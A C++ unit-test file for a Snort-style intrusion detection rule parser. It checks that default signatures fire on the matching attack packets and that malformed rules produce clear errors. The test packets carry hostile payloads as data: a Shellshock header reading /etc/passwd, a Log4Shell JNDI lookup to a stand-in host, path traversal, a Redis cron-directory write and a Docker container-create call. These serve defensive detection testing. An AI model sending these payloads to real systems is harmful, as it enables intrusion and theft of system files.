#include "rules.hpp"

#include <doctest/doctest.h>

#include "default_rules.hpp"
#include "packet_builder.hpp"

using namespace vigil::network_threat;
using namespace vigil::network_threat::test;

namespace {

TestPacket http(const std::string& payload, uint16_t dport = 80, const std::string& src = "10.0.0.2") {
    TcpSpec t;
    t.flags = tcpflag::ack | tcpflag::psh;
    t.dport = dport;
    t.payload = payload;
    return decoded(tcp4(src, t));
}

std::string refusal(const std::string& rule) {
    try {
        RuleSet::parse(rule, "test.rules");
    } catch (const RuleError& e) {
        return e.what();
    }
    return "";
}

}  // namespace

TEST_CASE("rules: the default set parses and each signature fires on its attack only") {
    auto set = RuleSet::parse(kDefaultRules, "default.rules");
    CHECK(set.rules().size() == 8);
    auto sids = [&](const Packet& p) {
        std::vector<uint32_t> out;
        for (auto* r : set.match(p)) out.push_back(r->sid);
        return out;
    };
    CHECK(sids(http("GET / HTTP/1.1\r\nX: VIGIL-NETWORK-THREAT-TEST-7f3a\r\n")) ==
          std::vector<uint32_t>{9100001});
    CHECK(sids(http("GET / HTTP/1.1\r\nUser-Agent: () { :; }; /bin/cat /etc/passwd\r\n")) ==
          std::vector<uint32_t>{9100010});
    CHECK(sids(http("GET /?x=${JNDI:ldap://e.example/a} HTTP/1.1\r\n")) == std::vector<uint32_t>{9100011});
    CHECK(sids(http("GET /../../../etc/passwd HTTP/1.1\r\n")) == std::vector<uint32_t>{9100012});
    CHECK(sids(http("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n", 6379))
              .empty());  // RESP arrays are not inline
    CHECK(sids(http("CONFIG SET dir /var/spool/cron\r\n", 6379)) == std::vector<uint32_t>{9100020});
    CHECK(sids(http("POST /v1.41/containers/create HTTP/1.1\r\n", 2375)) == std::vector<uint32_t>{9100030});
    CHECK(sids(http("GET /v1.41/containers/json HTTP/1.1\r\n", 2375)).empty());
    // Ordinary traffic and the right payload on another port match nothing.
    CHECK(sids(http("GET /index.html HTTP/1.1\r\nHost: x\r\n")).empty());
    CHECK(sids(http("VIGIL-NETWORK-THREAT-TEST-7f3a", 8080)).empty());
    Ip4Spec ip;
    ip.protocol = 17;
    CHECK(sids(decoded(ipv4(ip, udp_datagram(4000, 11211, std::string("\0\0\0\0\0\1\0\0stats\r\n", 15))))) ==
          std::vector<uint32_t>{9100050});
    std::string smb =
        std::string("\0\0\0\x50", 4) + "\xffSMB\x32" + std::string(20, '\0') + std::string("\x0e\x00", 2);
    CHECK(sids(http(smb, 445)) == std::vector<uint32_t>{9100040});
    CHECK(set.capture_ports(6).size() == 5);  // 80, 139, 445, 2375-2376, 6379
    CHECK(set.capture_ports(17).size() == 1);
}

TEST_CASE("rules: content modifiers") {
    ContentMatch c;
    c.bytes = "abc";
    const std::string s = "xxABCabc";
    std::span<const uint8_t> p(reinterpret_cast<const uint8_t*>(s.data()), s.size());
    CHECK(content_matches(c, p));
    c.depth = 5;
    CHECK_FALSE(content_matches(c, p));
    c.nocase = true;
    CHECK(content_matches(c, p));
    c.offset = 3;
    CHECK(content_matches(c, p));  // region [3, 8) holds "BCabc"
    c.depth = 2;
    CHECK_FALSE(content_matches(c, p));  // region [3, 5) holds "BC"
    c.depth.reset();
    CHECK(content_matches(c, p));
    c.offset = 100;
    CHECK_FALSE(content_matches(c, p));
    c.negated = true;
    CHECK(content_matches(c, p));
}

TEST_CASE("rules: addresses, ports, lists and negation") {
    auto set = RuleSet::parse(
        "alert tcp [10.0.0.0/8,192.0.2.1] ![1:1023] -> any [22,8000:8100] (msg:\"m\"; content:\"x\"; "
        "sid:1;)\n"
        "alert tcp !10.0.0.0/8 any -> 10.0.0.1 22 (msg:\"n\"; content:\"x\"; sid:2;)\n",
        "t");
    auto match = [&](const std::string& src, uint16_t sport, uint16_t dport) {
        TcpSpec t;
        t.sport = sport;
        t.dport = dport;
        t.payload = "x";
        std::vector<uint32_t> out;
        for (auto* r : set.match(decoded(tcp4(src, t)))) out.push_back(r->sid);
        return out;
    };
    CHECK(match("10.1.2.3", 40000, 22) == std::vector<uint32_t>{1});
    CHECK(match("10.1.2.3", 80, 22).empty());
    CHECK(match("10.1.2.3", 40000, 8050) == std::vector<uint32_t>{1});
    CHECK(match("192.0.2.1", 40000, 8101).empty());
    CHECK(match("192.0.2.9", 40000, 22) == std::vector<uint32_t>{2});
}

TEST_CASE("rules: errors name the line and the problem") {
    // {rule, what its refusal says}
    const std::pair<const char*, const char*> cases[] = {
        {"pass tcp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:1;)", "action 'pass'"},
        {"alert icmp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:1;)", "protocol 'icmp'"},
        {"alert tcp any any -> any any (msg:\"m\"; content:\"x\"; sid:1;)", "captured per listed port"},
        {"alert tcp any any <> any 80 (msg:\"m\"; content:\"x\"; sid:1;)", "direction"},
        {"alert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; flowbits:set,a; sid:1;)",
         "keyword 'flowbits' is not supported"},
        // A flow list longer than the short-string buffer: the error quotes a part of it (the fuzzer
        // found the parts once pointed into a freed temporary).
        {"alert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; flow:established,to_client_only; sid:1;)",
         "flow: 'to_client_only' is not supported"},
        {"alert tcp any any -> any 80 (msg:\"m\"; sid:1;)", "needs content or pcre"},
        {"alert tcp any any -> any 80 (msg:\"m\"; content:\"x\";)", "sid is missing"},
        {"alert tcp any any -> any 80 (msg:\"m\"; content:\"|4\"; sid:1;)", "hex"},
        {"alert tcp any any -> any 80 (msg:\"m\"; pcre:\"/a(/\"; sid:1;)", "pcre:"},
        {"alert tcp any any -> any 80 (msg:\"m\"; pcre:\"/a/R\"; sid:1;)", "flag 'R'"},
        {"alert tcp any any -> any 70000 (msg:\"m\"; content:\"x\"; sid:1;)", "out of range"},
        {"alert tcp 10.0.0.0/40 any -> any 80 (msg:\"m\"; content:\"x\"; sid:1;)", "0-32"},
        {"alert tcp any any -> any 80 (msg:\"m\"; depth:3; content:\"x\"; sid:1;)", "no content before it"},
        {"alert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:1)", "not terminated"},
    };
    for (const auto& [rule, says] : cases) CHECK_MESSAGE(refusal(rule).find(says) != std::string::npos, rule);
    auto two = refusal(
        "# comment\n\nalert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:1;)\n"
        "alert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:$x;)\n");
    CHECK(two.find("test.rules:4:") == 0);
    CHECK(refusal("alert tcp any any -> any 80 (msg:\"m\"; content:\"x\"; sid:1;)\n"
                  "alert tcp any any -> any 81 (msg:\"m\"; content:\"x\"; sid:1;)")
              .find("sid 1 is defined twice") != std::string::npos);
    CHECK(refusal(std::string(9000, 'a')).find("longer than") != std::string::npos);
}

TEST_CASE("rules: escapes in quoted values and continued lines") {
    auto set = RuleSet::parse(
        "alert tcp any any -> any 80 (msg:\"semi\\;colon \\\"q\\\"\"; \\\n"
        "  content:\"a\\;b\"; sid:7;)",
        "t");
    REQUIRE(set.rules().size() == 1);
    CHECK(set.rules()[0].msg == "semi;colon \"q\"");
    CHECK(set.rules()[0].contents[0].bytes == "a;b");
    CHECK(set.rules()[0].line == 1);
}
